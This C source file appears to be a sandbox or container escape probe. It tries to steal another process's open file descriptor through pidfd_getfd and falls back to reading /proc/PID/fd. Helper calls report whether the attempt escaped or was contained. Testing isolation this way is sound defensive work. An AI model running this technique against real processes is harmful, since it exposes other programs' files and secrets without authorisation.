/*
 * Idea: pidfd_getfd(2) takes a copy of another process's descriptor: an open file, a socket, a device.
 * Incident: the tool of choice after CVE-2022-0185 and friends; needs only what ptrace needs.
 * Success: the outsider's open file can be read.
 * Usage: steal-descriptor PID DESCRIPTOR
 */
#include "attempt.h"

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

int main(int argc, char **argv) {
  const char *outsider = argument(argc, argv, 1, "the process id of an outsider");
  const char *descriptor = argument(argc, argv, 2, "a descriptor that it has open");
  char path[64], line[256];
  int process = syscall(SYS_pidfd_open, atoi(outsider), 0);
  if (process < 0) stopped("pidfd_open");
  int copy = process < 0 ? -1 : syscall(SYS_pidfd_getfd, process, atoi(descriptor), 0);
  if (copy >= 0) escaped("have a copy of descriptor %s of process %s", descriptor, outsider);
  if (process >= 0) stopped("pidfd_getfd");
  snprintf(path, sizeof path, "/proc/%s/fd/%s", outsider, descriptor);
  if (read_line_at(AT_FDCWD, path, line, sizeof line) == 0) escaped("read \"%s\" through %s", line, path);
  stopped("open %s", path);
  contained();
}
